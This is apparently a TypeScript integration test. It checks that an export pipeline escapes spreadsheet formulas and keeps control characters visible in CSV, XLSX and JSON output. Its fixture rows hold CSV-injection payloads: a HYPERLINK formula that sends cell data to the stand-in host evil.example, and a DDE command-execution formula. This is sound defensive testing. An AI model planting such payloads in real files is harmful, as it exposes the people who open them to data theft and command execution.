/**
 * Exports cannot attack the people who open them (docs/outbound.md, "Formulas and control characters"):
 * a dropped file's `=HYPERLINK(...)` reaches a CSV export as text (`'=...`) unless the integration turns
 * escaping off, XLSX writes text cells, and control characters are kept (CSV, JSON) or made visible with a
 * warning (XLSX), never dropped silently. Through the real gateway, engine and delivery.
 */
import { GetObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Delivery, Submission } from '../../core/submissions/index.ts';
import { parseWorkspace } from '../../core/workspace/index.ts';
import { readXlsx } from '../../core/outbound/index.ts';
import { startTestHarness, type TestHarness } from '../helpers/harness.ts';

const LONG_NAME = `${'L'.repeat(150)}${'é'.repeat(23)}`;
const allowAll = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 's3:*', Resource: '*' }] };
const outbound = (name: string, extra: Record<string, unknown>) => ({
  name,
  account: 'platform',
  bucketMode: 'manual',
  bucket: 'exports',
  filename: `${name}/{{submitted_at}}`,
  ...extra,
});
const workspaceJson = {
  accountId: '123456789012',
  region: 'us-east-1',
  buckets: [{ name: 'drops' }, { name: 'exports' }],
  iam: {
    users: [
      {
        name: 'admin',
        accessKeyId: 'AKIAEXPORTSAFETY0001',
        secretAccessKey: 'exportSafetySecretKey00000000000000000001',
        policies: [allowAll],
      },
    ],
  },
  accounts: [{ name: 'platform', accessKeyId: 'AKIAEXPORTSAFETY0001' }],
  templates: [
    {
      name: 'Notes',
      fields: [
        { name: 'Title', type: 'text', required: true },
        { name: 'Note', type: 'text' },
      ],
      inbound: [
        {
          name: 'drop',
          account: 'platform',
          bucketMode: 'manual',
          bucket: 'drops',
          prefix: 'in/',
          detection: 'event',
          outcome: 'all-or-nothing',
        },
      ],
      outbound: [
        outbound('csv', {}),
        outbound('raw', { escapeFormulas: false }),
        outbound('xlsx', { fileType: 'xlsx' }),
        outbound('json', { fileType: 'json' }),
        // A 196-byte file name: with the extension and the time, a key segment longer than a file name may be.
        outbound('long-xlsx', { fileType: 'xlsx', filename: `${LONG_NAME}_{{submitted_at}}` }),
        outbound('long-json', {
          fileType: 'json',
          filename: `deep/${LONG_NAME}/{{submitted_at}}`,
          pathMode: 'folders',
        }),
      ],
    },
  ],
};

const ROWS = [
  ['=HYPERLINK("http://evil.example/?"&A2,"click")', 'plain'],
  ["=cmd|' /C calc'!A0", '+1'],
  ['@SUM(1)', '-2'],
  ['=1+1\nsecond line', '\tTabbed'],
  ['nul', 'a\u0000b\u0001c\u007fd'],
];

let h: TestHarness;
let submission: Submission;
beforeAll(async () => {
  const parsed = parseWorkspace(workspaceJson);
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.issues));
  h = await startTestHarness(parsed.value, { source: workspaceJson });
  const csv = Papa.unparse([['Title', 'Note'], ...ROWS], { newline: '\r\n', escapeFormulae: false });
  await h.client('admin').send(new PutObjectCommand({ Bucket: 'drops', Key: 'in/notes.csv', Body: csv }));
  const [imported] = await h.submissionsOf('in/notes.csv');
  expect(imported!.status).toBe('complete');
  await h.engine.idle();
  submission = await h.api<Submission>(`/api/submissions/${imported!.id}`);
});
afterAll(() => h.stop());

const delivery = (name: string): Delivery => submission.deliveries!.find((d) => d.integration === name)!;
const read = async (name: string) => {
  const object = await h.client('admin').send(new GetObjectCommand({ Bucket: 'exports', Key: delivery(name).key }));
  return Buffer.from(await object.Body!.transformToByteArray());
};

describe('exports of a file full of formulas and control characters', () => {
  it("CSV: every cell a spreadsheet would run starts with ', in quotes; the values are otherwise unchanged", async () => {
    expect(delivery('csv').status).toBe('delivered');
    const rows = Papa.parse<string[]>((await read('csv')).toString('utf8').trimEnd(), { newline: '\r\n' }).data;
    expect(rows).toEqual([
      ['Title', 'Note'],
      ...ROWS.map((row) => row.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell))),
    ]);
    expect((await read('csv')).toString('utf8')).toContain('"\'=HYPERLINK(""http://evil.example/?""&A2,""click"")"');
  });

  it('CSV with escapeFormulas off: the values exactly as dropped', async () => {
    const rows = Papa.parse<string[]>((await read('raw')).toString('utf8').trimEnd(), { newline: '\r\n' }).data;
    expect(rows).toEqual([['Title', 'Note'], ...ROWS]);
  });

  it('XLSX: text cells, control characters made visible, and the delivery says so', async () => {
    const cells = readXlsx(await read('xlsx'));
    expect(cells[1]).toEqual(ROWS[0]);
    expect(cells[5]).toEqual(['nul', 'a\u2400b\u2401c\u2421d']); // DEL as ␡ (exceljs dropped it)
    expect(delivery('xlsx').warnings).toEqual([
      '1 cell(s) held control characters an XLSX file cannot store; each was replaced by its visible symbol (NUL as \u2400 and so on), the first at row 6, column 2 of the sheet',
    ]);
    expect(delivery('csv').warnings).toEqual([]);
  });

  it('JSON: every character kept (escaped as JSON escapes it)', async () => {
    const rows = JSON.parse((await read('json')).toString('utf8')) as Record<string, string>[];
    expect(rows.map((r) => [r.Title, r.Note])).toEqual(ROWS);
  });

  it('delivers under a 196-byte file name, as S3 would: the key is what the integration names', async () => {
    expect(Buffer.byteLength(LONG_NAME)).toBe(196);
    for (const name of ['long-xlsx', 'long-json']) {
      expect([name, delivery(name).status, delivery(name).error]).toEqual([name, 'delivered', null]);
      expect(delivery(name).key).toContain(LONG_NAME);
    }
    expect(readXlsx(await read('long-xlsx'))[1]).toEqual(ROWS[0]);
    expect((JSON.parse((await read('long-json')).toString('utf8')) as unknown[]).length).toBe(ROWS.length);
  });
});
